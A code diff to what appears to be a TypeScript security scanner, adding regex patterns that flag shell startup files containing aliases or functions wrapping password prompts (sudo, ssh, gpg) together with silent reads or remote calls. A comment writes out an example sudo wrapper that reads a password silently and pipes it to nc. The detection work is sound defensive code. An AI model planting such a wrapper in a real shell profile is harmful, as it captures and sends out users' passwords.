@@ -99,6 +99,12 @@ const REMOTE_EXEC_RE =
 const TOOL_PATH_LINE_RE =
   /^\s*(?:echo|printf)?\s*(?:-e\s+)?["']?\s*export\s+PATH=["']?(?:\$HOME|\$\{HOME\}|~|\/opt|\/usr\/local)\/(?!tmp\b|\.cache\b)[\w.-]+(?:\/[\w.-]+)*\/?:\$\{?PATH\}?["']?\s*["']?\s*(?:>>?.*)?$/;
 
+/** A profile line that puts a function or alias in front of a program people type passwords into. */
+const PASSWORD_WRAPPER_RE =
+  /\balias\s+(?:sudo|su|doas|ssh|scp|git|passwd|gpg|ssh-add|mysql|psql|kinit|vault|op|pass)=|(?:^|[\s;{'"(])(?:function\s+)?(?:sudo|su|doas|ssh|scp|git|passwd|gpg|ssh-add|mysql|psql|kinit|vault|op|pass)\s*\(\s*\)\s*\{|\bfunction\s+(?:sudo|su|doas|ssh|git|passwd|gpg)\s*\{/;
+/** Reading a line without echo, or recording the terminal: what a password prompt does. */
+const SILENT_READ_RE = /\bread\s+(?:-\w+\s+(?:\S+\s+)?)*?-\w*s\w*\b|\bstty\s+-echo\b|\bscript\s+-q\b/;
+
 export interface PersistenceJudgement {
   severity: Severity;
   message: string;
@@ -125,6 +131,16 @@ export function judgePersistence(
       message: `${how} ${target.what} with a line that fetches and runs remote code`,
     };
   if (target.base === 'critical') return { severity: 'critical', message: `${how} ${target.what}` };
+  // `sudo() { read -s p; echo "$p" | nc …; command sudo "$@"; }`: every later password goes through it.
+  if (
+    target.what === 'a shell startup file' &&
+    PASSWORD_WRAPPER_RE.test(payload) &&
+    (SILENT_READ_RE.test(payload) || REMOTE_PAYLOAD_RE.test(payload))
+  )
+    return {
+      severity: 'critical',
+      message: `${how} ${target.what}: a wrapper around a password prompt (sudo, ssh, …) that captures or sends what is typed`,
+    };
   const beacon = target.runs === undefined && REMOTE_PAYLOAD_RE.test(payload);
   if (beacon)
     return { severity: 'high', message: `${how} ${target.what} with a line that contacts a remote host` };
